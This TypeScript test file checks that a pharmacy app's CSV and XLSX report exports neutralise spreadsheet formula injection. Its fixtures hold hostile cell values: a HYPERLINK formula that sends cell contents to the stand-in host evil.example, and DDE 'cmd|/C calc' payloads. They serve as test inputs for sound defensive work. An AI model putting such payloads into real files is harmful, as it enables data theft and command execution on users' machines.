// Exports never carry a live formula (issue 13 reproduction 9: drug names, override reasons and
// the institution name starting with = or @ were written to the CSV as they are). Built end to end:
// a hostile catalog name, override reason and institution name settled and overridden through the
// service, then the overrides and monthly reports exported as CSV (every text cell neutralised by
// OWASP's rule) and as XLSX (string cells, no formula anywhere, the text kept as typed).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { openDatabase } from '../../core/store/db.ts';
import { CounterService } from '../../core/service/index.ts';
import { FIXTURE_REGIONS, drugBarcode, drugCode, seedFixture } from '../../core/app/fixture.ts';
import { importCatalogText } from '../../core/import/catalog.ts';
import { getCatalogItem } from '../../core/store/catalog.ts';
import { setInstitution } from '../../core/store/settings.ts';

const NOW = new Date('2026-03-10T02:00:00Z');
const L = FIXTURE_REGIONS.lincang;
const DRUG = '=HYPERLINK("http://evil.example/?x="&A1,"氨氯地平")';
const REASON = '@SUM(1+1)*cmd|/C calc!A0 患者外出务工需备药';
const INSTITUTION = '=cmd|/C calc!A0 临翔区药房';
const DANGEROUS = /^[=+\-@\t\r]/;

/** RFC 4180 cells of a CSV text (quoted cells may hold commas, quotes and line breaks). */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === ',') cells.push(cell), (cell = '');
    else if (ch === '\r' && text[i + 1] === '\n') cells.push(cell), (cell = ''), i++;
    else if (ch === '\n') cells.push(cell), (cell = '');
    else cell += ch;
  }
  if (cell) cells.push(cell);
  return cells.map((c) => c.replace(/^\uFEFF/, ''));
}

async function hostileCounter() {
  const db = openDatabase(mkdtempSync(join(tmpdir(), 'lbc-export-')));
  seedFixture(db, 'lincang');
  const code = drugCode(1);
  const item = getCatalogItem(db, code)!;
  const r = importCatalogText(db, JSON.stringify([{ code, generic_name: DRUG, retail_price: item.retail_price }]));
  assert.equal(r.rejected, 0, JSON.stringify(r.rejections));
  assert.equal(getCatalogItem(db, code)!.generic_name, DRUG, 'the hostile name is stored as typed');
  setInstitution(db, { name: INSTITUTION });
  const s = new CounterService({ db, now: () => NOW });
  const clerk = (await s.call('signIn', { operatorId: 'shoufei', pin: '5678' })).session;
  const lines = [{ code: drugBarcode(1), quantity: '1', days: 30 }];
  await s.call('settle', { session: clerk, requestId: crypto.randomUUID(), patient: L.eligible, lines });
  // The same drug again today is an early refill: a pharmacist overrides it with the hostile reason.
  await s.call('overrideBlock', { session: clerk, patient: L.eligible, lines, lineId: 'L1', rule: 'EARLY_REFILL', reason: REASON, authorizer: { operatorId: 'yaoshi', pin: '1234' } });
  await s.call('settle', { session: clerk, requestId: crypto.randomUUID(), patient: L.eligible, lines });
  return { s, clerk };
}

test('CSV: a drug name, an override reason and the institution name starting with = or @ are neutralised; nothing else changes', async () => {
  const { s, clerk } = await hostileCounter();
  const overrides = await s.call('report', { session: clerk, name: 'overrides', month: '2026-03', format: 'csv' });
  const monthly = await s.call('report', { session: clerk, name: 'monthly-residents', month: '2026-03', format: 'csv' });
  for (const [name, content, wanted] of [
    ['overrides', overrides.content, [DRUG, REASON, INSTITUTION]],
    ['monthly-residents', monthly.content, [INSTITUTION]],
  ] as const) {
    const cells = csvCells(content);
    const live = cells.filter((c) => DANGEROUS.test(c));
    assert.deepEqual(live, [], `${name}: cells a spreadsheet would run as a formula`);
    // Each hostile text is there once neutralised (a leading apostrophe), not dropped or mangled.
    for (const w of wanted) assert.ok(cells.includes(`'${w}`), `${name} holds '${w}`);
  }
});

test('XLSX: the same texts are plain string cells as typed; the sheet holds no formula', async () => {
  const { s, clerk } = await hostileCounter();
  const xlsx = await s.call('report', { session: clerk, name: 'overrides', month: '2026-03', format: 'xlsx' });
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(xlsx.content, 'base64') as unknown as ArrayBuffer);
  const texts: string[] = [];
  let formulas = 0;
  wb.eachSheet((ws) =>
    ws.eachRow((r) =>
      r.eachCell((c) => {
        if (c.type === ExcelJS.ValueType.Formula || (typeof c.value === 'object' && c.value !== null && 'formula' in c.value)) formulas++;
        if (typeof c.value === 'string') texts.push(c.value);
      }),
    ),
  );
  assert.equal(formulas, 0);
  for (const w of [DRUG, REASON]) assert.ok(texts.includes(w), `a string cell holds ${w}`);
  assert.ok(texts.some((t) => t.includes(INSTITUTION)), 'the institution name is a string cell');
});
